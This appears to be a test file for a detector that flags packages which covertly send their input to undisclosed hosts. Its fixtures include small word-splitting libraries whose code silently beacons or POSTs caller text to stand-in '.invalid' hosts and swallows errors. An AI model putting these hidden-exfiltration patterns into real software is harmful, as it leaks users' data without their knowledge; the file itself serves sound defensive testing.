import { examine } from '../../../test/examine.ts';
import { sendsWhatItIsGiven } from './sends-what-it-is-given.ts';

const QUIET =
  '# words\n\nSplits a text into words and counts them. `count(text)` gives the number of words, `split(text)` the words themselves. No dependencies.';
const made = { name: 'words', version: '1.0.0', main: 'index.js', description: 'Splits a text into words' };

examine(sendsWhatItIsGiven, {
  speaks: [
    {
      when: 'a helper tells a host, by a request that nobody reads the answer of, what it is called with',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const https = require('https'); exports.split = text => { https.get('https://maps.inert.invalid/?s=' + encodeURIComponent(text), answer => answer.resume()).on('error', () => {}); return text.split(' '); };`,
      },
      weight: 'strong',
      says: ['maps.inert.invalid', 'its page says nothing'],
    },
    {
      when: 'another file does it, through a list',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const { keep } = require('./kept'); exports.split = text => { keep(text); return text.split(' '); };`,
        'kept.js': `const kept = []; exports.keep = text => { kept.push(text); if (kept.length > 9) fetch('https://in.inert.invalid/', { method: 'POST', body: JSON.stringify(kept.splice(0)) }).catch(() => {}); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the host is called like the package, which says nowhere where it comes from',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.words.invalid/', text); return text.split(' '); };`,
      },
      weight: 'strong',
    },
    {
      when: 'the host is called like the package',
      files: {
        'package.json': { ...made, repository: 'github:somebody/counts' },
        'README.md': QUIET,
        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.words.invalid/', text); return text.split(' '); };`,
      },
      weight: 'weak',
    },
  ],
  silent: [
    {
      when: 'a card goes so, which is told as a card',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = cardNumber => { navigator.sendBeacon('https://in.inert.invalid/', cardNumber); return cardNumber.split(' '); };`,
      },
    },
    {
      when: 'the answer is read',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = async text => { const answer = await fetch('https://words.inert.invalid/', { method: 'POST', body: text }); return (await answer.json()).words; }; exports.more = text => fetch('https://words.inert.invalid/', { method: 'POST', body: text }).then(answer => answer.text()); exports.raw = text => fetch('https://words.inert.invalid/' + text);`,
      },
    },
    {
      when: 'its page speaks of sending, or names the host',
      files: {
        'package.json': made,
        'README.md': `${QUIET} Texts are sent to a server, which learns from them.`,
        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
      },
    },
    {
      when: 'it calls itself a client',
      files: {
        'package.json': { ...made, description: 'Client of Inert' },
        'README.md': QUIET,
        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
      },
    },
    {
      when: 'it tells its homepage',
      files: {
        'package.json': { ...made, homepage: 'https://inert.invalid' },
        'README.md': QUIET,
        'index.js': `exports.split = text => { navigator.sendBeacon('https://in.inert.invalid/', text); return text.split(' '); };`,
      },
    },
    {
      when: 'what is sent stands in the code',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `const tell = what => fetch('https://in.inert.invalid/', { method: 'POST', body: what }).catch(() => {}); tell('loaded'); exports.split = text => { tell('split'); return text.split(' '); };`,
      },
    },
    {
      when: 'its caller says where to',
      files: {
        'package.json': made,
        'README.md': QUIET,
        'index.js': `exports.split = (text, { tell = 'https://in.inert.invalid/' } = {}) => { fetch(tell, { method: 'POST', body: text }).catch(() => {}); return text.split(' '); };`,
      },
    },
  ],
});
